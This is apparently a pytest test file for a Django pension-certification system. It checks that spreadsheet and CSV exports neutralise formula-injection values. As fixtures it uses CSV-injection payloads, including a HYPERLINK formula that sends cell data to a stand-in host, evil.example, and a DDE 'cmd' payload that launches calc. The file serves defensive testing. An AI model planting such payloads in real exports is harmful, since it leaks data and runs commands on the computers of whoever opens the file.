"""Issue 13 item 5: a value starting with =, +, -, @, a tab or a CR is written as text in
every .xlsx and CSV (the queue, dashboards, the payment roster, errors files), DESIGN §7."""

from __future__ import annotations

import csv
import datetime as dt
import io
import json
from pathlib import Path

import pytest
from django.contrib.auth.models import Permission
from django.core.management import call_command
from django.urls import reverse
from openpyxl import load_workbook

from certification.dashboards.export import xlsx_bytes
from certification.dashboards.panels import Table
from certification.spreadsheets import csv_cell, is_formula_like
from tests.factories import PensionerFactory, office
from tests.staff.helpers import two_offices, warning_person

pytestmark = pytest.mark.django_db

EVIL = '=HYPERLINK("http://evil.example/?d="&B2,"点我")'
TRIGGERS = [EVIL, "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)", "\t=1+1", "\r=1+1"]


def _csv(path: str | Path) -> list[list[str]]:
    with open(path, encoding="utf-8-sig", newline="") as fh:
        return list(csv.reader(fh))


def test_every_trigger_character_is_defused_and_plain_numbers_are_not():
    for value in TRIGGERS:
        assert is_formula_like(value) and csv_cell(value) == "'" + value
    for value in ["-120.50", "+3", "张三", "", "370202194510102417", 12, None]:
        assert csv_cell(value) == value


def test_a_formula_name_in_the_unmasked_queue_export_stays_text(time_machine, client):
    time_machine.move_to("2026-11-30 10:00 +08:00", tick=False)
    a, *_rest, admin = two_offices()
    admin.user_permissions.add(Permission.objects.get(codename="unmask_pii"))
    p = warning_person(a, name=EVIL)
    client.force_login(admin)
    resp = client.get(reverse("staff:queue_export"))
    assert resp.status_code == 200
    ws = load_workbook(io.BytesIO(resp.content)).active
    row = next(r for r in ws.iter_rows(min_row=2) if r[1].value == p.id_number)  # unmasked: the full ID in B
    assert row[0].value == EVIL
    assert row[0].data_type == "s"  # a string cell, not a formula ("f")
    assert all(c.data_type != "f" for r in ws.iter_rows() for c in r)


def test_a_dashboard_table_with_formula_text_exports_it_as_text():
    table = Table(slug="t", title="测试", columns=["街道", "人数"], rows=[[EVIL, 3], ["@x", -2]], note="+note")
    ws = load_workbook(io.BytesIO(xlsx_bytes(table, scope_name="=scope"))).active
    cells = [c for r in ws.iter_rows() for c in r if c.value is not None]
    assert all(c.data_type != "f" for c in cells)
    assert ws["A3"].value == EVIL and ws["B3"].value == 3 and ws["B4"].value == -2
    assert ws["A1"].value.startswith("=scope")


def test_the_payment_roster_csv_writes_a_formula_name_as_text(tmp_path, time_machine):
    time_machine.move_to("2026-11-20 10:00 +08:00", tick=False)
    p = PensionerFactory(name=EVIL, street_office=office(), valid_until=dt.date(2027, 6, 1))
    path = tmp_path / "roster.csv"
    call_command("export_payment_roster", "--month", "2026-12", "--output", str(path), stdout=io.StringIO())
    rows = [r for r in _csv(path)[1:] if p.id_number in r[2]]
    assert rows, "the pensioner is on the roster"
    assert "'" + EVIL in rows[0]
    assert not any(f.startswith(("=", "+", "@")) and f != f'="{p.id_number}"' for r in rows for f in r)


def test_the_feed_errors_csv_writes_a_formula_row_as_text(tmp_path, capsys, time_machine):
    time_machine.move_to("2026-11-20 10:00 +08:00", tick=False)
    feed = tmp_path / "feed.csv"
    feed.write_text(f"id_number,event_date,source_ref\n{EVIL},2026-06-01,R-1\n", encoding="utf-8")
    call_command("import_evidence", str(feed), "--source", "hospital")
    out = json.loads(capsys.readouterr().out.strip().splitlines()[-1])
    assert out["rejected"] == 1 and out["errors_file"]
    line, reason, raw = _csv(out["errors_file"])[1]
    assert raw.startswith("'=HYPERLINK(") and not reason.startswith(("=", "+", "-", "@"))


@pytest.mark.services
def test_the_feed_errors_csv_written_by_postgresql_is_defused_too(require_postgres, tmp_path, capsys, time_machine):
    time_machine.move_to("2026-11-20 10:00 +08:00", tick=False)
    feed = tmp_path / "feed.csv"
    feed.write_text(f"id_number,event_date,source_ref\n{EVIL.replace(',', ' ')},2026-06-01,R-1\n"
                    "@bad,2026-06-01,R-2\n", encoding="utf-8")
    call_command("import_evidence", str(feed), "--source", "hospital")
    out = json.loads(capsys.readouterr().out.strip().splitlines()[-1])
    assert out["rejected"] == 2
    raws = [r[2] for r in _csv(out["errors_file"])[1:]]
    assert all(r.startswith("'") for r in raws), raws


def test_the_roster_import_errors_csv_is_defused(tmp_path, capsys):
    roster = tmp_path / "roster.csv"
    roster.write_text("id_number,name,phone,street_office,monthly_amount,valid_until\n"
                      "=1+1,张三,13900000000,=cmd,100,2027-01-01\n", encoding="utf-8")
    call_command("import_pensioners", str(roster))
    out = json.loads(capsys.readouterr().out.strip().splitlines()[-1])
    assert out["rejected"] == 1
    for row in _csv(out["errors_file"]):
        assert not any(is_formula_like(f) for f in row), row
